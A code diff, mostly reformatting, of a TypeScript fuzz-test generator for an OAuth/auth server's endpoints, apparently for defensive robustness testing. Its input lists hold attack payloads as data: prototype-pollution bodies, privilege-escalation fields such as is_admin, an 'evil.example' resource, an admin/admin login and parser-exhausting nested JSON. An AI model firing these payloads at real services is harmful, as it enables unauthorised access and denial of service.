-        fc.constantFrom<Val>(actorRef('admin', 'email'), actorRef('user', 'email'), actorRef('moderator', 'email'), victimRef('email')),
+        fc.constantFrom<Val>(
+          actorRef('admin', 'email'),
+          actorRef('user', 'email'),
+          actorRef('moderator', 'email'),
+          victimRef('email'),
+        ),
         fc.emailAddress(),
         fc.nat().map((n) => `fuzz-${n}@example.com`),
         fc.constantFrom(' Mixed.Case@Example.COM ', 'a@b.co'),
@@ -383,21 +782,67 @@ function namedString(name: string): fc.Arbitrary<Val> | undefined {
       );
     case 'grant_type':
       return fc.constantFrom(
-        'refresh_token', 'refresh_token', 'client_credentials', 'client_credentials', 'password', 'authorization_code', 'implicit',
-        'urn:ietf:params:oauth:grant-type:jwt-bearer', 'urn:ietf:params:oauth:grant-type:device_code', 'urn:ietf:params:oauth:grant-type:token-exchange',
-        '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'REFRESH_TOKEN', 'refresh_token ',
+        'refresh_token',
+        'refresh_token',
+        'client_credentials',
+        'client_credentials',
+        'password',
+        'authorization_code',
+        'implicit',
+        'urn:ietf:params:oauth:grant-type:jwt-bearer',
+        'urn:ietf:params:oauth:grant-type:device_code',
+        'urn:ietf:params:oauth:grant-type:token-exchange',
+        '__proto__',
+        'constructor',
+        'toString',
+        'hasOwnProperty',
+        'REFRESH_TOKEN',
+        'refresh_token ',
       );
     case 'refresh_token':
     case 'token':
       return tokenVal;
     case 'client_id':
-      return fc.oneof(fc.constantFrom<Val>(clientRef('introspector', 'id'), clientRef('plain', 'id'), 'tessera', 'tessera ', 'TESSERA'), anyString);
+      return fc.oneof(
+        fc.constantFrom<Val>(
+          clientRef('introspector', 'id'),
+          clientRef('plain', 'id'),
+          'tessera',
+          'tessera ',
+          'TESSERA',
+        ),
+        anyString,
+      );
     case 'client_secret':
-      return fc.oneof(fc.constantFrom<Val>(clientRef('introspector', 'secret'), clientRef('plain', 'secret')), anyString);
+      return fc.oneof(
+        fc.constantFrom<Val>(clientRef('introspector', 'secret'), clientRef('plain', 'secret')),
+        anyString,
+      );
     case 'scope':
-      return fc.constantFrom('openid', 'openid profile email', 'profile', 'email openid', 'openid openid', 'admin', 'openid  profile', ' openid', 'api:read', 'read write', '*');
+      return fc.constantFrom(
+        'openid',
+        'openid profile email',
+        'profile',
+        'email openid',
+        'openid openid',
+        'admin',
+        'openid  profile',
+        ' openid',
+        'api:read',
+        'read write',
+        '*',
+      );
     case 'resource':
-      return fc.oneof(fc.constantFrom<Val>(issuerRef, 'http://localhost:3000/', 'https://api.example.com', 'urn:x', 'https://evil.example'), anyString);
+      return fc.oneof(
+        fc.constantFrom<Val>(
+          issuerRef,
+          'http://localhost:3000/',
+          'https://api.example.com',
+          'urn:x',
+          'https://evil.example',
+        ),
+        anyString,
+      );
     case 'token_type_hint':
       return fc.constantFrom('access_token', 'refresh_token', 'id_token', '', 'ACCESS_TOKEN');
     case 'name':
@@ -423,7 +868,9 @@ export function validFromSchema(schema: JsonSchema, name = ''): fc.Arbitrary<Tre
   switch (type) {
     case 'string': {
       const named = namedString(name);
-      return named ? fc.oneof({ weight: 4, arbitrary: named as fc.Arbitrary<Tree> }, { weight: 1, arbitrary: stringFromSchema(schema) }) : stringFromSchema(schema);
+      return named
+        ? fc.oneof({ weight: 4, arbitrary: named }, { weight: 1, arbitrary: stringFromSchema(schema) })
+        : stringFromSchema(schema);
     }
     case 'boolean':
       return fc.boolean();
@@ -433,7 +880,9 @@ export function validFromSchema(schema: JsonSchema, name = ''): fc.Arbitrary<Tre
     case 'array': {
       const items = validFromSchema(schema.items ?? {}, name);
       const constraints = { minLength: schema.minItems ?? 0, maxLength: Math.min(schema.maxItems ?? 4, 4) };
-      return schema.uniqueItems ? fc.uniqueArray(items, { ...constraints, selector: (v) => JSON.stringify(v) }) : fc.array(items, constraints);
+      return schema.uniqueItems
+        ? fc.uniqueArray(items, { ...constraints, selector: (v) => JSON.stringify(v) })
+        : fc.array(items, constraints);
     }
     case 'object':
     default: {
@@ -443,7 +892,12 @@ export function validFromSchema(schema: JsonSchema, name = ''): fc.Arbitrary<Tre
       // Optional fields now and then, so the cases that pass validation reach the handler.
       const required = new Set(schema.required ?? []);
       const entries = Object.entries(model).map(([key, arb]) =>
-        required.has(key) ? arb.map((v) => [key, v] as const) : fc.oneof({ weight: 3, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: arb.map((v) => [key, v] as const) }),
+        required.has(key)
+          ? arb.map((v) => [key, v] as const)
+          : fc.oneof(
+              { weight: 3, arbitrary: fc.constant(undefined) },
+              { weight: 1, arbitrary: arb.map((v) => [key, v] as const) },
+            ),
       );
       return fc.tuple(...entries).map((pairs) => Object.fromEntries(pairs.filter((p) => p !== undefined)) as Tree);
     }
@@ -465,28 +919,66 @@ function recipe(op: Operation): fc.Arbitrary<Tree> | undefined {
   switch (op.id) {
     case 'POST /auth/login':
       return fc.oneof(
-        fc.record({ email: fc.constantFrom<Tree>(actorRef('admin', 'email'), actorRef('user', 'email'), victimRef('email')), password: fc.constantFrom(GOOD_PASSWORD, 'wrong-password-99') }),
-        fc.record({ email: fc.constantFrom<Tree>(actorRef('user', 'email'), victimRef('email')), password: fc.constant(GOOD_PASSWORD), scope: fc.constantFrom('openid', 'openid email', 'admin'), resource: fc.constantFrom('https://api.example.com', 'https://evil.example') }),
+        fc.record({
+          email: fc.constantFrom<Tree>(actorRef('admin', 'email'), actorRef('user', 'email'), victimRef('email')),
+          password: fc.constantFrom(GOOD_PASSWORD, 'wrong-password-99'),
+        }),
+        fc.record({
+          email: fc.constantFrom<Tree>(actorRef('user', 'email'), victimRef('email')),
+          password: fc.constant(GOOD_PASSWORD),
+          scope: fc.constantFrom('openid', 'openid email', 'admin'),
+          resource: fc.constantFrom('https://api.example.com', 'https://evil.example'),
+        }),
       );
     case 'POST /oauth/token':
       return fc.oneof(
         realRefresh.map((t) => ({ grant_type: 'refresh_token', refresh_token: t })),
-        fc.tuple(realRefresh, fc.constantFrom('openid', 'openid email', 'admin', 'openid openid'), fc.constantFrom<Tree>(issuerRef, 'https://api.example.com')).map(([t, scope, resource]) => ({ grant_type: 'refresh_token', refresh_token: t, scope, resource })),
-        someClient.map((c) => ({ grant_type: 'client_credentials', client_id: clientRef(c, 'id'), client_secret: clientRef(c, 'secret') })),
-        fc.tuple(someClient, fc.constantFrom('api:read', 'api:write', 'api:read api:write', 'openid', 'admin')).map(([c, scope]) => ({ grant_type: 'client_credentials', client_id: clientRef(c, 'id'), client_secret: clientRef(c, 'secret'), scope })),
+        fc
+          .tuple(
+            realRefresh,
+            fc.constantFrom('openid', 'openid email', 'admin', 'openid openid'),
+            fc.constantFrom<Tree>(issuerRef, 'https://api.example.com'),
+          )
+          .map(([t, scope, resource]) => ({ grant_type: 'refresh_token', refresh_token: t, scope, resource })),
+        someClient.map((c) => ({
+          grant_type: 'client_credentials',
+          client_id: clientRef(c, 'id'),
+          client_secret: clientRef(c, 'secret'),
+        })),
+        fc
+          .tuple(someClient, fc.constantFrom('api:read', 'api:write', 'api:read api:write', 'openid', 'admin'))
+          .map(([c, scope]) => ({
+            grant_type: 'client_credentials',
+            client_id: clientRef(c, 'id'),
+            client_secret: clientRef(c, 'secret'),
+            scope,
+          })),
         fc.constant({ grant_type: 'client_credentials' }),
       );
     case 'POST /oauth/revoke':
     case 'POST /oauth/introspect':
       return fc.oneof(
-        fc.tuple(tokenVal, fc.constantFrom('access_token', 'refresh_token', undefined)).map(([token, hint]): Tree => (hint ? { token, token_type_hint: hint } : { token })),
-        fc.tuple(tokenVal, someClient).map(([token, c]) => ({ token, client_id: clientRef(c, 'id'), client_secret: clientRef(c, 'secret') })),
+        fc
+          .tuple(tokenVal, fc.constantFrom('access_token', 'refresh_token', undefined))
+          .map(([token, hint]): Tree => (hint ? { token, token_type_hint: hint } : { token })),
+        fc
+          .tuple(tokenVal, someClient)
+          .map(([token, c]) => ({ token, client_id: clientRef(c, 'id'), client_secret: clientRef(c, 'secret') })),
         fc.tuple(tokenVal).map(([token]) => ({ token, client_id: 'tessera' })),
       );
     case 'POST /users':
-      return fc.record({ email: fc.oneof(fc.nat().map((n) => `fuzz-${n}@example.com`), fc.constantFrom<Tree>(victimRef('email'))), password: fc.oneof(strongPassword, fc.constant('password123')) });
+      return fc.record({
+        email: fc.oneof(
+          fc.nat().map((n) => `fuzz-${n}@example.com`),
+          fc.constantFrom<Tree>(victimRef('email')),
+        ),
+        password: fc.oneof(strongPassword, fc.constant('password123')),
+      });
     case 'POST /users/me/password':
-      return fc.record({ current_password: fc.constantFrom(GOOD_PASSWORD, 'wrong-password-99'), new_password: fc.oneof(strongPassword, fc.constantFrom(GOOD_PASSWORD, 'short', 'password123')) });
+      return fc.record({
+        current_password: fc.constantFrom(GOOD_PASSWORD, 'wrong-password-99'),
+        new_password: fc.oneof(strongPassword, fc.constantFrom(GOOD_PASSWORD, 'short', 'password123')),
+      });
     case 'PATCH /admin/users/{id}':
       return fc.oneof(
         fc.record({ disabled: fc.boolean() }),
@@ -495,7 +987,12 @@ function recipe(op: Operation): fc.Arbitrary<Tree> | undefined {
       );
     case 'POST /admin/clients':
       return fc.record(
-        { name: fc.constantFrom('billing', 'reports service', 'x'), scope: fc.constantFrom('api:read', 'api:read api:write', 'openid'), grant_types: fc.constant<Tree>(['client_credentials']), introspect: fc.boolean() },
+        {
+          name: fc.constantFrom('billing', 'reports service', 'x'),
+          scope: fc.constantFrom('api:read', 'api:read api:write', 'openid'),
+          grant_types: fc.constant<Tree>(['client_credentials']),
+          introspect: fc.boolean(),
+        },
         { requiredKeys: ['name', 'scope'] },
       );
     case 'POST /admin/keys/rotate':
@@ -523,17 +1020,42 @@ export const wrongTypeValue: fc.Arbitrary<Tree> = fc.oneof(
   deepValue,
 );
 
-type Mutation = { kind: 'drop'; key: string } | { kind: 'set'; key: string; value: Tree } | { kind: 'extra'; key: string; value: Tree };
+type Mutation =
+  | { kind: 'drop'; key: string }
+  | { kind: 'set'; key: string; value: Tree }
+  | { kind: 'extra'; key: string; value: Tree };
 
 function mutationArb(keys: string[]): fc.Arbitrary<Mutation> {
   const key = keys.length ? fc.constantFrom(...keys) : fc.constant('x');
   return fc.oneof(
     key.map((k) => ({ kind: 'drop' as const, key: k })),
-    fc.tuple(key, fc.oneof(wrongTypeValue, anyString as fc.Arbitrary<Tree>, hugeString as fc.Arbitrary<Tree>)).map(([k, value]) => ({ kind: 'set' as const, key: k, value })),
+    fc
+      .tuple(key, fc.oneof(wrongTypeValue, anyString as fc.Arbitrary<Tree>, hugeString as fc.Arbitrary<Tree>))
+      .map(([k, value]) => ({ kind: 'set' as const, key: k, value })),
     fc
       .tuple(
-        fc.oneof(anyString, fc.constantFrom('__proto__', 'constructor', 'prototype', 'admin', 'roles', 'id', 'password_hash', 'disabled', 'Email', 'email ', 'is_admin', 'grant_type')),
-        fc.oneof(anyString as fc.Arbitrary<Tree>, wrongTypeValue, fc.constantFrom<Tree>(['admin'], true, { polluted: true })),
+        fc.oneof(
+          anyString,
+          fc.constantFrom(
+            '__proto__',
+            'constructor',
+            'prototype',
+            'admin',
+            'roles',
+            'id',
+            'password_hash',
+            'disabled',
+            'Email',
+            'email ',
+            'is_admin',
+            'grant_type',
+          ),
+        ),
+        fc.oneof(
+          anyString as fc.Arbitrary<Tree>,
+          wrongTypeValue,
+          fc.constantFrom<Tree>(['admin'], true, { polluted: true }),
+        ),
       )
       .map(([k, value]) => ({ kind: 'extra' as const, key: k, value })),
   );
@@ -572,23 +1094,75 @@ const JSON_REWRITES: Array<{ label: string; fn: (json: string) => string }> = [
 ];
 
 const RAW_JSON_TEXTS = [
-  '', ' ', 'null', 'true', '0', '-0', '1e999999', '"string"', '[]', '{}', '[{}]', '{"":""}', '\u0000', '{', '}', '{"a":', '{"a":1,}', '{a:1}',
-  "{'a':1}", '{"a":1}{"b":2}', `${'['.repeat(5000)}${']'.repeat(5000)}`, `${'{"a":'.repeat(2000)}1${'}'.repeat(2000)}`, '{"__proto__":{"x":1}}',
-  '{"constructor":{"prototype":{"x":1}}}', '{"__proto__":null}', '{"a":"\\u0000"}', '{"a":"\\ud800"}', '\ufeff{}', 'NaN', 'undefined', '[1,2,3',
+  '',
+  ' ',
+  'null',
+  'true',
+  '0',
+  '-0',
+  '1e999999',
+  '"string"',
+  '[]',
+  '{}',
+  '[{}]',
+  '{"":""}',
+  '\u0000',
+  '{',
+  '}',
+  '{"a":',
+  '{"a":1,}',
+  '{a:1}',
+  "{'a':1}",
+  '{"a":1}{"b":2}',
+  `${'['.repeat(5000)}${']'.repeat(5000)}`,
+  `${'{"a":'.repeat(2000)}1${'}'.repeat(2000)}`,
+  '{"__proto__":{"x":1}}',
+  '{"constructor":{"prototype":{"x":1}}}',
+  '{"__proto__":null}',
+  '{"a":"\\u0000"}',
+  '{"a":"\\ud800"}',
+  '\ufeff{}',
+  'NaN',
+  'undefined',
+  '[1,2,3',
 ];
 
 const RAW_FORM_TEXTS = [
-  '', '&', '=', '==', '&&&=&&', 'grant_type', 'grant_type=', 'grant_type=&grant_type=', '%zz=%zz', '%ff=%fe', 'a=%E0%A4%A', '%00=%00',
-  '__proto__[x]=1&grant_type=refresh_token', '__proto__=x&token=x', 'constructor[prototype][x]=1', 'grant_type[]=refresh_token', 'grant_type[a]=b',
-  'token=a&token=b', 'grant_type=refresh_token&refresh_token=', 'grant_type=client_credentials&client_id=&client_secret=', '+=+', 'a=b;c=d',
-  'grant_type=refresh_token&refresh_token=%00', 'token=%00', `token=${'a'.repeat(9000)}`, 'grant_type=password&username=admin&password=admin',
+  '',
+  '&',
+  '=',
+  '==',
+  '&&&=&&',
+  'grant_type',
+  'grant_type=',
+  'grant_type=&grant_type=',
+  '%zz=%zz',
+  '%ff=%fe',
+  'a=%E0%A4%A',
+  '%00=%00',
+  '__proto__[x]=1&grant_type=refresh_token',
+  '__proto__=x&token=x',
+  'constructor[prototype][x]=1',
+  'grant_type[]=refresh_token',
+  'grant_type[a]=b',
+  'token=a&token=b',
+  'grant_type=refresh_token&refresh_token=',
+  'grant_type=client_credentials&client_id=&client_secret=',
+  '+=+',
+  'a=b;c=d',
+  'grant_type=refresh_token&refresh_token=%00',
+  'token=%00',
+  `token=${'a'.repeat(9000)}`,
+  'grant_type=password&username=admin&password=admin',
 ];
 
 function treeToPairs(tree: Tree): QueryPart[] {
   if (tree === null || typeof tree !== 'object' || Array.isArray(tree) || tree instanceof Ref) return [];
   const pairs: QueryPart[] = [];
   for (const [k, v] of Object.entries(tree)) {
-    if (Array.isArray(v)) for (const item of v) pairs.push([k, typeof item === 'string' || item instanceof Ref ? item : JSON.stringify(item), false]);
+    if (Array.isArray(v))
+      for (const item of v)
+        pairs.push([k, typeof item === 'string' || item instanceof Ref ? item : JSON.stringify(item), false]);
     else if (typeof v === 'string' || v instanceof Ref) pairs.push([k, v, false]);
     else pairs.push([k, JSON.stringify(v), false]);
   }
@@ -600,27 +1174,60 @@ const formMutation = (keys: string[]): fc.Arbitrary<(pairs: QueryPart[]) => Quer
   return fc.oneof(
     key.map((k) => (pairs: QueryPart[]) => pairs.filter(([n]) => n !== k)),
     fc.tuple(key, anyString).map(([k, v]) => (pairs: QueryPart[]) => [...pairs, [k, v, false] as QueryPart]),
-    fc.tuple(key, fc.oneof(anyString, hugeString)).map(([k, v]) => (pairs: QueryPart[]) => pairs.map((p) => (p[0] === k ? ([k, v, false] as QueryPart) : p))),
-    fc.tuple(key, fc.constantFrom('%00', '%zz', '%ff%fe', '', '+', '%2B', '%26', '%3D')).map(([k, v]) => (pairs: QueryPart[]) => pairs.map((p) => (p[0] === k ? ([k, v, true] as QueryPart) : p))),
+    fc.tuple(key, fc.oneof(anyString, hugeString)).map(
+      ([k, v]) =>
+        (pairs: QueryPart[]) =>
+          pairs.map((p) => (p[0] === k ? ([k, v, false] as QueryPart) : p)),
+    ),
+    fc.tuple(key, fc.constantFrom('%00', '%zz', '%ff%fe', '', '+', '%2B', '%26', '%3D')).map(
+      ([k, v]) =>
+        (pairs: QueryPart[]) =>
+          pairs.map((p) => (p[0] === k ? ([k, v, true] as QueryPart) : p)),
+    ),
     fc
-      .tuple(fc.oneof(anyString, fc.constantFrom('__proto__', 'constructor', 'hasOwnProperty', 'a[b]', '', 'grant_type[]', 'toString')), anyString)
+      .tuple(
+        fc.oneof(
+          anyString,
+          fc.constantFrom('__proto__', 'constructor', 'hasOwnProperty', 'a[b]', '', 'grant_type[]', 'toString'),
+        ),
+        anyString,
+      )
       .map(([k, v]) => (pairs: QueryPart[]) => [...pairs, [k, v, false] as QueryPart]),
   );
 };
 
 /** Bodies for an operation: shaped like its schema and mutated, raw attacks, random JSON and bytes. */
 export function bodyArb(op: Operation): fc.Arbitrary<Body> {
-  const bytes = fc.tuple(fc.uint8Array({ maxLength: 200 }), contentTypeArb(undefined)).map(([b, contentType]): Body => ({ kind: 'bytes', bytes: b, contentType }));
-  const randomJson = fc.tuple(fc.json({ maxDepth: 4 }), contentTypeArb('json')).map(([text, contentType]): Body => ({ kind: 'text', text, contentType }));
+  const bytes = fc
+    .tuple(fc.uint8Array({ maxLength: 200 }), contentTypeArb(undefined))
+    .map(([b, contentType]): Body => ({ kind: 'bytes', bytes: b, contentType }));
+  const randomJson = fc
+    .tuple(fc.json({ maxDepth: 4 }), contentTypeArb('json'))
+    .map(([text, contentType]): Body => ({ kind: 'text', text, contentType }));
   if (!op.body) {
     // Operations that take no body get one now and then, of any type.
     return fc.oneof(
       { weight: 10, arbitrary: fc.constant<Body>({ kind: 'none', contentType: undefined }) },
-      { weight: 1, arbitrary: fc.constantFrom(...JSON_TYPES, ...FORM_TYPES, ...ODD_TYPES).map((contentType): Body => ({ kind: 'none', contentType })) },
+      {
+        weight: 1,
+        arbitrary: fc
+          .constantFrom(...JSON_TYPES, ...FORM_TYPES, ...ODD_TYPES)
+          .map((contentType): Body => ({ kind: 'none', contentType })),
+      },
       { weight: 1, arbitrary: randomJson },
       { weight: 1, arbitrary: bytes },
-      { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...RAW_FORM_TEXTS), contentTypeArb('form')).map(([text, contentType]): Body => ({ kind: 'text', text, contentType })) },
-      { weight: 1, arbitrary: fc.tuple(hugeString, contentTypeArb('json')).map(([text, contentType]): Body => ({ kind: 'text', text: JSON.stringify({ a: text }), contentType })) },
+      {
+        weight: 1,
+        arbitrary: fc
+          .tuple(fc.constantFrom(...RAW_FORM_TEXTS), contentTypeArb('form'))
+          .map(([text, contentType]): Body => ({ kind: 'text', text, contentType })),
+      },
+      {
+        weight: 1,
+        arbitrary: fc
+          .tuple(hugeString, contentTypeArb('json'))
+          .map(([text, contentType]): Body => ({ kind: 'text', text: JSON.stringify({ a: text }), contentType })),
+      },
     );
   }
   const encoding: Encoding = op.body.contentType.includes('x-www-form-urlencoded') ? 'form' : 'json';
@@ -628,21 +1235,48 @@ export function bodyArb(op: Operation): fc.Arbitrary<Body> {
   const schema = op.body.schema;
   const keys = Object.keys(schema.properties ?? {});
   const fromRecipe = recipe(op);
-  const valid = fromRecipe ? fc.oneof({ weight: 3, arbitrary: fromRecipe }, { weight: 1, arbitrary: validFromSchema(schema) }) : validFromSchema(schema);
-  const mutated = fc.tuple(valid, fc.array(mutationArb(keys), { maxLength: 3 })).map(([tree, ms]) => applyMutations(tree, ms));
+  const valid = fromRecipe
+    ? fc.oneof({ weight: 3, arbitrary: fromRecipe }, { weight: 1, arbitrary: validFromSchema(schema) })
+    : validFromSchema(schema);
+  const mutated = fc
+    .tuple(valid, fc.array(mutationArb(keys), { maxLength: 3 }))
+    .map(([tree, ms]) => applyMutations(tree, ms));
   const asTree = (enc: Encoding, tree: fc.Arbitrary<Tree>) =>
-    fc.tuple(tree, contentTypeArb(enc)).map(([t, contentType]): Body => (enc === 'form' ? { kind: 'pairs', pairs: treeToPairs(t), contentType } : { kind: 'tree', encoding: 'json', tree: t, contentType }));
+    fc
+      .tuple(tree, contentTypeArb(enc))
+      .map(([t, contentType]): Body =>
+        enc === 'form'
+          ? { kind: 'pairs', pairs: treeToPairs(t), contentType }
+          : { kind: 'tree', encoding: 'json', tree: t, contentType },
+      );
   const formAttacks = fc
     .tuple(valid, fc.array(formMutation(keys), { maxLength: 3 }), contentTypeArb('form'))
-    .map(([t, ms, contentType]): Body => ({ kind: 'pairs', pairs: ms.reduce((p, m) => m(p), treeToPairs(t)), contentType }));
+    .map(([t, ms, contentType]): Body => ({
+      kind: 'pairs',
+      pairs: ms.reduce((p, m) => m(p), treeToPairs(t)),
+      contentType,
+    }));
   const jsonRewrites = fc
     .tuple(valid, fc.constantFrom(...JSON_REWRITES), contentTypeArb('json'))
     .map(([tree, rewrite, contentType]): Body => ({ kind: 'tree', encoding: 'json', tree, contentType, rewrite }));
   return fc.oneof(
     { weight: 6, arbitrary: asTree(encoding, valid) },
     { weight: 6, arbitrary: encoding === 'form' ? formAttacks : asTree('json', mutated) },
-    { weight: 2, arbitrary: encoding === 'json' ? jsonRewrites : fc.tuple(fc.constantFrom(...RAW_FORM_TEXTS), contentTypeArb('form')).map(([text, contentType]): Body => ({ kind: 'text', text, contentType })) },
-    { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...RAW_JSON_TEXTS), contentTypeArb('json')).map(([text, contentType]): Body => ({ kind: 'text', text, contentType })) },
+    {
+      weight: 2,
+      arbitrary:
+        encoding === 'json'
+          ? jsonRewrites
+          : fc
+              .tuple(fc.constantFrom(...RAW_FORM_TEXTS), contentTypeArb('form'))
+              .map(([text, contentType]): Body => ({ kind: 'text', text, contentType })),
+    },
+    {
+      weight: 1,
+      arbitrary: fc
+        .tuple(fc.constantFrom(...RAW_JSON_TEXTS), contentTypeArb('json'))
+        .map(([text, contentType]): Body => ({ kind: 'text', text, contentType })),
+    },
     { weight: 1, arbitrary: asTree(other, valid) },
     { weight: 1, arbitrary: randomJson },
     { weight: 1, arbitrary: bytes },
@@ -672,8 +1306,11 @@ export function requestArb(op: Operation): fc.Arbitrary<RequestCase> {
   return fc.record({
     op: fc.constant(op),
     // Now and then a method the path does not document: answered 404 like any unknown route.
-    method: fc.oneof({ weight: 19, arbitrary: fc.constant(op.method) }, { weight: 1, arbitrary: fc.constantFrom(...OTHER_METHODS) }),
-    path: fc.record(path) as fc.Arbitrary<Record<string, PathValue>>,
+    method: fc.oneof(
+      { weight: 19, arbitrary: fc.constant(op.method) },
+      { weight: 1, arbitrary: fc.constantFrom(...OTHER_METHODS) },
+    ),
+    path: fc.record(path),
     query: queryArb(op),
     headers: headersArb,
     credential: credentialArb(op),
